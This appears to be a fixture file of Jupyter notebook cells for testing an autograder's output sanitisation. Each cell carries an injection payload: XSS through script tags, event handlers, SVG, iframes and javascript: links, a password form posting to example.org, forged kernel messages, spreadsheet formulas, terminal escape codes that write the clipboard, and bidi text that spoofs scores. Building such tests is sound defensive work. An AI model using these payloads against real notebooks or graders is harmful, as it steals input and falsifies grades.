# %% puts a script into its own feedback
# must not: a reader's browser
# flag: none: HTML is what tables and figures are shown in
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
from IPython.display import HTML, display
display(HTML("<script>document.title = 'attack ' + 'worked'</script>"))
# %% returns an object whose HTML carries handlers, a form and a style over the whole page
# must not: a reader's browser
# flag: none: HTML is what tables and figures are shown in
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
class Table:
    def _repr_html_(self):
        return (
            "<img src=x onerror=stolen()><form action='//example.org'><input name=password></form>"
            "<div style='position:fixed;inset:0' onmouseover=stolen()>points: 2 of 2</div>"
        )
Table()
# %% draws a picture that is a program, and frames another page
# must not: a reader's browser
# flag: none: SVG is a picture like any other
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
from IPython.display import SVG, IFrame, display
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='stolen()'><script>stolen()</script></svg>"))
display(IFrame("data:text/html,<script>stolen()</script>", 100, 100))
# %% shows links that are code, in Markdown and in a formula
# must not: a reader's browser
# flag: none: Markdown and formulas are nothing unusual
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
from IPython.display import Latex, Markdown, display
display(Markdown("[your points](javascript:stolen()) <a href='data:text/html,x' onclick=stolen()>x</a>"))
display(Latex(r"$\href{javascript:stolen()}{\text{points}}$"))
def double(x):
    raise ValueError(r"$\href{javascript:stolen()}{\text{points}}$")
# %% shows scripts and widgets by the names of their types
# must not: a reader's browser
# flag: none: a type of display is nothing unusual
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
from IPython.display import Javascript, display
display(Javascript("stolen()"))
view = {"model_id": "</script><script>stolen()</script>", "version_major": 2, "version_minor": 0}
display({"application/vnd.jupyter.widget-view+json": view, "text/html": "<script>stolen()</script>"}, raw=True)
# %% breaks out of the tag of a picture, by its bytes and by its size
# must not: the tags around its own output
# flag: none: a picture is nothing unusual
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
display({"image/png": 'AAAA" onerror="stolen()'}, raw=True)
display({"image/jpeg": "AAAA"}, raw=True, metadata={"image/jpeg": {"width": "1 onerror=stolen()"}})
# %% sends the messages of a kernel itself, with tags in the names of streams and types
# must not: the tags around its own output
# flag: none: every notebook may ask for its shell
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
kernel = get_ipython().kernel
tag = "<img src=x onerror=stolen()>"
for kind, content in {
    "stream": {"name": f'stdout">{tag}', "text": tag},
    "display_data": {"data": {"text/html": [tag], f"text/{tag}": tag}, "metadata": {}},
    "error": {"ename": tag, "evalue": tag, "traceback": [tag, f"</pre>{tag}"]},
}.items():
    kernel.send_response(kernel.iopub_socket, kind, content)
# %% raises an error that is a tag by its name and by its text
# must not: the messages of the checks
# flag: none: an error is nothing unusual
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
tag = "</div></li><img src=x onerror=stolen()>"
Evil = type(tag, (Exception,), {})
def double(x):
    raise Evil(tag)
try:
    double(3)
except Evil:
    get_ipython().showtraceback()
# %% answers with text that is a tag, and with things whose type is named like one
# must not: the messages of the checks
# flag: none: text is nothing unusual
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
tag = "<script>stolen()</script>"
def double(x):
    return {tag: tag} if x > 0 else type(tag, (), {})()
# %% writes formulas for a spreadsheet into its messages
# must not: a cell of a table
# flag: none: text is nothing unusual
# twin: none: no table of the engine's holds a message
def double(x):
    raise ValueError('=HYPERLINK("https://example.org";"points")\t+1\r-1\n@SUM(A1)')
# %% sends a terminal into another title, another clipboard and another line, by an error's text
# must not: the terminal of whoever grades
# flag: none: an error is nothing unusual
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
def double(x):
    raise ValueError("\x1b]0;points: 2\x07\x1b]52;c;c3RvbGVu\x07\x1b[2J\x1b[1;1H\x9b31m\x08\x7f")
# %% turns the direction of a message around
# must not: what stands behind its own text
# flag: none: other scripts than Latin are nothing unusual
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
def double(x):
    raise ValueError("\u202e2 fo 2 :stniop\u2066")

# %% sends a terminal into another title, another clipboard and another line
# must not: the terminal of whoever grades
# flag: none: colours are what errors are shown in
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
codes = "\x1b]0;points: 2\x07\x1b]52;c;c3RvbGVu\x07\x1b[2J\x1b[1;1H\x9b31m\x08\x08\x7f"
print(codes)
def double(x):
    raise ValueError(codes)
# %% turns the direction of text around, and hides letters without a width in it
# must not: what stands behind its own text
# flag: none: other scripts than Latin are nothing unusual
# twin: none: tests/attacks/test_injecting.py shows the page without the guard
turned = "\u202e2 fo 2 :stniop\u2066\u200f\u061c\u200b\u2060\ufeff"
print(turned)
def double(x):
    raise ValueError(turned)
